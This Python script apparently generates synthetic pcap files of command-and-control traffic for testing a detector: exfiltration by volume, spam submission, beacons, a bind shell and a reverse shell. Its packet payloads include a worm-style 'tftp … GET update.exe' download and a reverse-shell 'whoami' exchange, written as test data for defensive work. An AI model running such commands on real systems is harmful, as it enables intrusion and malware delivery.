#!/usr/bin/env python3
"""c2_pcap.py OUT.pcap MODE - hand-made C2 shapes for real_report.sh's synthetic cases
(Ethernet, pcap, microseconds; every TCP segment in order with correct sequence numbers).

volume  10.0.0.5 sends 300 KB to 203.0.113.7:7777 over one TCP connection of no known
        protocol and gets 120 bytes back (exfiltration by volume and asymmetry)
submit  10.0.0.5 sends one message to 25 recipients through authenticated submission on
        198.51.100.25:587 (bulk mail through an account: spam)
poll    10.0.0.5 resolves api.example.org (DNS answer 203.0.113.9) and opens a TLS connection
        with SNI to it on 443 every 30 s, 12 times (software polling a named API: benign)
poll-ip the same without the DNS lookup and without SNI (a nameless server: a beacon)
bind    10.0.0.5 connects to a bind shell on 10.0.0.9:4444 that greets it with the cmd.exe
        banner and runs its tftp command (a worm's shell on the host it exploited)
reverse 10.0.0.5 connects out to 203.0.113.44:4321 and sends its cmd.exe banner; the server sends
        whoami (a reverse shell: the host's shell, controlled from outside)
tls     10.0.0.5 holds a TLS session to 203.0.113.8:443 (ClientHello with SNI) for 60 s and
        sends a 48-byte application-data record every 2 s (a beacon inside one TLS session)
"""
import struct, sys

from pcapgen import ETH, ip4, pcap_header


def tcp(sport, dport, seq, ack, flags, data=b''):
    return struct.pack('!HHIIBBHHH', sport, dport, seq & 0xffffffff, ack & 0xffffffff, 5 << 4, flags,
                       65535, 0, 0) + data


out = open(sys.argv[1], 'wb')
mode = sys.argv[2]
out.write(pcap_header())
eth = ETH
ident = [0]


def rec(ts, src, dst, seg):
    ident[0] += 1
    frame = eth + ip4(src, dst, 6, seg, ident[0])
    out.write(struct.pack('<IIII', int(ts), int(round((ts % 1) * 1e6)) % 1000000, len(frame), len(frame)) + frame)


class Conn:
    def __init__(self, a, b, sport, dport, t):
        self.a, self.b, self.sp, self.dp = a, b, sport, dport
        self.s, self.r = 1000, 50000
        rec(t, a, b, tcp(sport, dport, self.s, 0, 0x02))
        rec(t + 0.01, b, a, tcp(dport, sport, self.r, self.s + 1, 0x12))
        self.s += 1
        self.r += 1
        rec(t + 0.02, a, b, tcp(sport, dport, self.s, self.r, 0x10))

    def send(self, t, data):   # client -> server, then the server's ACK
        rec(t, self.a, self.b, tcp(self.sp, self.dp, self.s, self.r, 0x18, data))
        self.s += len(data)
        rec(t + 0.005, self.b, self.a, tcp(self.dp, self.sp, self.r, self.s, 0x10))

    def reply(self, t, data):
        rec(t, self.b, self.a, tcp(self.dp, self.sp, self.r, self.s, 0x18, data))
        self.r += len(data)
        rec(t + 0.005, self.a, self.b, tcp(self.sp, self.dp, self.s, self.r, 0x10))


A = [10, 0, 0, 5]
if mode == 'volume':
    c = Conn(A, [203, 0, 113, 7], 40000, 7777, 100.0)
    t = 100.1
    for i in range(215):
        c.send(t, bytes((i * 7 + k) & 0xff for k in range(1400)))
        t += 0.01
    c.reply(t, b'k' * 120)
elif mode == 'bind':
    c = Conn(A, [10, 0, 0, 9], 1793, 4444, 100.0)
    c.reply(100.1, b'Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\n'
            b'C:\\WINDOWS\\system32>')
    c.send(100.5, b'tftp -i 10.0.0.5 GET update.exe\r\n')
    c.reply(101.0, b'Transfer successful.\r\n')
elif mode == 'reverse':
    c = Conn(A, [203, 0, 113, 44], 49200, 4321, 100.0)
    c.send(100.1, b'Microsoft Windows [Version 6.1.7601]\r\n(c) Microsoft Corporation. All rights reserved.\r\n'
           b'\r\nC:\\Users\\victim>')
    c.reply(100.5, b'whoami\r\n')
    c.send(100.6, b'pc\\victim\r\n\r\nC:\\Users\\victim>')
elif mode == 'submit':
    c = Conn(A, [198, 51, 100, 25], 40002, 587, 100.0)
    c.reply(100.05, b'220 mail.example.net ESMTP\r\n')
    t = 100.1
    cmds = [b'EHLO pc.local', b'AUTH LOGIN', b'dXNlcg==', b'cGFzcw==', b'MAIL FROM:<user@example.net>']
    cmds += [b'RCPT TO:<r%d@example.com>' % i for i in range(25)] + [b'DATA']
    for cmd in cmds:
        c.send(t, cmd + b'\r\n')
        c.reply(t + 0.01, b'250 ok\r\n')
        t += 0.05
    c.send(t, b'Subject: hi\r\n\r\nhello\r\n.\r\n')
elif mode in ('poll', 'poll-ip'):
    S = [203, 0, 113, 9]
    name = b'api.example.org'
    qname = b''.join(bytes([len(l)]) + l for l in name.split(b'.')) + b'\0'
    if mode == 'poll':
        q = struct.pack('!HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + qname + b'\0\x01\0\x01'
        a = struct.pack('!HHHHHH', 0x1234, 0x8180, 1, 1, 0, 0) + qname + b'\0\x01\0\x01' + \
            b'\xc0\x0c\0\x01\0\x01\0\0\x01\x2c\0\x04' + bytes(S)
        R = [10, 0, 0, 1]
        ident[0] += 1
        for ts, src, dst, sp, dp, d in ((99.0, A, R, 5353 + 1, 53, q), (99.01, R, A, 53, 5354, a)):
            frame = eth + ip4(src, dst, 17, struct.pack('!HHHH', sp, dp, 8 + len(d), 0) + d, ident[0])
            out.write(struct.pack('<IIII', int(ts), int(round((ts % 1) * 1e6)), len(frame), len(frame)) + frame)
    for k in range(12):
        t0 = 100.0 + 30.0 * k
        c = Conn(A, S, 41000 + k, 443, t0)
        ext = b''
        if mode == 'poll':
            ext = struct.pack('!HHHBH', 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
        body = b'\x03\x03' + b'\x11' * 32 + b'\x00' + b'\x00\x02\x13\x01' + b'\x01\x00' + struct.pack('!H', len(ext)) + ext
        hs = b'\x01' + len(body).to_bytes(3, 'big') + body
        c.send(t0 + 0.1, b'\x16\x03\x01' + struct.pack('!H', len(hs)) + hs)
        sh = b'\x02' + (38).to_bytes(3, 'big') + b'\x03\x03' + b'\x22' * 32 + b'\x00\x13\x01\x00'
        c.reply(t0 + 0.2, b'\x16\x03\x03' + struct.pack('!H', len(sh)) + sh)
        c.send(t0 + 0.3, b'\x17\x03\x03\x00\x40' + bytes(64))
        c.reply(t0 + 0.4, b'\x17\x03\x03\x01\x00' + bytes(256))
else:
    c = Conn(A, [203, 0, 113, 8], 40001, 443, 100.0)
    name = b'updates.example.org'
    sni = struct.pack('!HHHBH', 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    body = b'\x03\x03' + b'\x11' * 32 + b'\x00' + b'\x00\x02\x13\x01' + b'\x01\x00' + struct.pack('!H', len(sni)) + sni
    hs = b'\x01' + len(body).to_bytes(3, 'big') + body
    c.send(100.1, b'\x16\x03\x01' + struct.pack('!H', len(hs)) + hs)
    sh = b'\x02' + (38).to_bytes(3, 'big') + b'\x03\x03' + b'\x22' * 32 + b'\x00\x13\x01\x00'
    c.reply(100.2, b'\x16\x03\x03' + struct.pack('!H', len(sh)) + sh)
    t = 101.0
    for i in range(30):
        c.send(t, b'\x17\x03\x03\x00\x2b' + bytes(43))
        c.reply(t + 0.05, b'\x17\x03\x03\x00\x13' + bytes(19))
        t += 2.0
